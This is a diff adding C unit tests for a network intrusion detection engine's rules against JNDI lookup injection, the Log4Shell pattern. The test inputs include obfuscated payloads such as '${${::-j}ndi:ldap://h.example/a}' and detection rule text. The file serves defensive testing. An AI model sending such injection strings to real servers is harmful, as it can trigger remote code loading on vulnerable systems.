@@ -1,0 +1,231 @@
+/* SPDX-License-Identifier: GPL-2.0-or-later */
+#include "detect/detect.h"
+#include "base/count.h"
+
+#include <setjmp.h>
+#include <stdarg.h>
+#include <stdlib.h>
+#include <cmocka.h>
+
+static const char rules_text[] =
+    "alert ip any any -> any any (msg:\"lookup\"; jndi.stage; content:\"lookup\"; sid:1;)\n"
+    "alert ip any any -> any any (msg:\"search\"; ldap.client; content:\"jndi\"; sid:2;)\n";
+
+static struct config *config;
+static struct ruleset *rules;
+static struct detect *detect;
+
+/* What the last findings said. */
+static struct seen {
+    unsigned n;
+    uint32_t sid;
+    char name[256], raw[256], decoded[256], location[64], techniques[256];
+} seen;
+
+static void copy(char *to, size_t room, struct bytes from)
+{
+    size_t n = from.len < room - 1 ? from.len : room - 1;
+
+    if (n)
+        memcpy(to, from.p, n);
+    to[n] = 0;
+}
+
+static void on_finding(void *arg, const struct finding *f)
+{
+    (void)arg;
+    seen.n++;
+    seen.sid = f->rule->sid;
+    copy(seen.name, sizeof seen.name, attrs_get(f->attrs, ATTR_JNDI_NAME));
+    copy(seen.location, sizeof seen.location, attrs_get(f->attrs, ATTR_JNDI_LOCATION));
+    copy(seen.raw, sizeof seen.raw, f->raw);
+    copy(seen.decoded, sizeof seen.decoded, f->decoded);
+    for (unsigned i = 0; i < f->attrs->n; i++)
+        if (f->attrs->v[i].id == ATTR_JNDI_TECHNIQUE) {
+            strncat(seen.techniques, (const char *)f->attrs->v[i].value.p, f->attrs->v[i].value.len);
+            strcat(seen.techniques, " ");
+        }
+}
+
+static int set_up(void **state)
+{
+    struct complaint why = {{0}};
+
+    (void)state;
+    config = config_new();
+    assert_non_null(config);
+    rules = ruleset_new(config, &why);
+    assert_non_null(rules);
+    if (!ruleset_add_text(rules, "test", bytes_str(rules_text), &why))
+        fail_msg("%s", why.text);
+    detect = detect_new(config, rules, on_finding, NULL, &why);
+    if (!detect)
+        fail_msg("%s", why.text);
+    return 0;
+}
+
+static int tear_down(void **state)
+{
+    (void)state;
+    detect_free(detect);
+    ruleset_free(rules);
+    config_free(config);
+    return 0;
+}
+
+/* A flow with one field after the other. */
+static struct flow flow;
+static struct chunk chunk;
+static struct field field;
+
+static int new_flow(void **state)
+{
+    (void)state;
+    flow = (struct flow){.id = 1, .proto = PROTO_TCP};
+    chunk = (struct chunk){.flow = &flow};
+    field = (struct field){.kind = FIELD_HTTP_URI, .chunk = &chunk, .app_proto = "http", .first = true, .last = true};
+    seen = (struct seen){0};
+    count_reset();
+    return 0;
+}
+
+static int end_flow(void **state)
+{
+    (void)state;
+    detect_flow_end(detect, &flow);
+    assert_null(flow.detect_slot);
+    return 0;
+}
+
+static size_t give(struct bytes value)
+{
+    field.value = value;
+    return detect_field(detect, &field);
+}
+
+static void a_text_is_resolved(void **state)
+{
+    (void)state;
+    field.coding = FIELD_URI;
+    give(BYTES_LIT("/q?x=%24%7B${::-j}ndi:ldap://h.example/a%7D"));
+    assert_int_equal(seen.n, 1);
+    assert_int_equal(seen.sid, 1);
+    assert_string_equal(seen.name, "ldap://h.example/a");
+    assert_string_equal(seen.location, "http.uri");
+    assert_string_equal(seen.decoded, "${${::-j}ndi:ldap://h.example/a}");
+    assert_string_equal(seen.raw, "%24%7B${::-j}ndi:ldap://h.example/a%7D");
+    assert_string_equal(seen.techniques, "nested default-value form ");
+}
+
+static void one_lookup_in_one_request_is_one_finding(void **state)
+{
+    (void)state;
+    field.kind = FIELD_HTTP_REQUEST_HEADER;
+    give(BYTES_LIT("${jndi:ldap://h/a}"));
+    give(BYTES_LIT("${jndi:ldap://h/a}"));
+    assert_int_equal(seen.n, 1);
+    assert_int_equal(counters[COUNT_DETECT_REPEATS], 1);
+    give(BYTES_LIT("${jndi:ldap://h/b}"));
+    assert_int_equal(seen.n, 2);
+    field.message = 1;
+    give(BYTES_LIT("${jndi:ldap://h/a}"));
+    assert_int_equal(seen.n, 3);
+}
+
+/* A body split anywhere, even byte by byte, is one finding, as soon as its last byte is there. */
+static void a_window_is_resolved_wherever_it_is_split(void **state)
+{
+    static const char body[] = "some text ${${lower:j}ndi:ldap://h.example/a} and more";
+    size_t len = sizeof body - 1, due = strlen("some text ${${lower:j}ndi:ldap://h.example/a}");
+
+    (void)state;
+    field.kind = FIELD_HTTP_REQUEST_BODY;
+    for (size_t step = 1; step <= len; step++) {
+        size_t keep = 0, end = 0;
+
+        field.message++;
+        seen = (struct seen){0};
+        while (end < len) {
+            size_t from = end > keep ? end - keep : 0;
+
+            field.first = end == 0;
+            field.fresh = end - from;
+            end = end + step < len ? end + step : len;
+            field.last = end == len;
+            keep = give(bytes_of(body + from, end - from));
+            if (end < due)
+                assert_int_equal(seen.n, 0);
+            else
+                assert_int_equal(seen.n, 1);
+        }
+        assert_string_equal(seen.name, "ldap://h.example/a");
+    }
+}
+
+/* What a long hostile window costs is bounded by its bytes: this would take minutes otherwise. */
+static void a_hostile_window_stays_cheap(void **state)
+{
+    size_t len = 60000, keep = 0, end = 0;
+    uint8_t *body = malloc(len);
+
+    (void)state;
+    assert_non_null(body);
+    for (size_t i = 0; i < len; i++)
+        body[i] = (uint8_t)"${a:}"[i % 5];
+    field.kind = FIELD_RAW;
+    while (end < len) {
+        size_t from = end > keep ? end - keep : 0;
+
+        field.first = end == 0;
+        field.fresh = end - from;
+        end++;
+        field.last = end == len;
+        keep = give(bytes_of(body + from, end - from));
+        assert_true(keep <= 32768);
+    }
+    assert_int_equal(seen.n, 0);
+    free(body);
+}
+
+static void harmless_text_is_silent(void **state)
+{
+    static const char *const texts[] = {"`${a.b}/${c}`", "${spring.x:y}", "jndi:ldap://h/a", "$${jndi:ldap://h/a}", "",
+                                        "{{jndi:ldap://h/a}}", "${jndi"};
+
+    (void)state;
+    for (size_t i = 0; i < sizeof texts / sizeof *texts; i++)
+        give(bytes_str(texts[i]));
+    assert_int_equal(seen.n, 0);
+}
+
+static void a_fact_is_asked_of_the_rules(void **state)
+{
+    struct attrs attrs = {0};
+
+    (void)state;
+    attrs_add(&attrs, ATTR_LDAP_CLIENT, BYTES_LIT("jndi"));
+    field.kind = FIELD_FACT;
+    field.app_proto = "ldap";
+    field.attrs = &attrs;
+    give(BYTES_LIT("pdu"));
+    assert_int_equal(seen.n, 1);
+    assert_int_equal(seen.sid, 2);
+    attrs.v[0].value = BYTES_LIT("other");
+    give(BYTES_LIT("pdu"));
+    assert_int_equal(seen.n, 1);
+}
+
+int main(void)
+{
+#define IN_A_FLOW(f) cmocka_unit_test_setup_teardown(f, new_flow, end_flow)
+    const struct CMUnitTest tests[] = {
+        IN_A_FLOW(a_text_is_resolved),
+        IN_A_FLOW(one_lookup_in_one_request_is_one_finding),
+        IN_A_FLOW(a_window_is_resolved_wherever_it_is_split),
+        IN_A_FLOW(a_hostile_window_stays_cheap),
+        IN_A_FLOW(harmless_text_is_silent),
+        IN_A_FLOW(a_fact_is_asked_of_the_rules),
+    };
+
+    return cmocka_run_group_tests(tests, set_up, tear_down);
+}
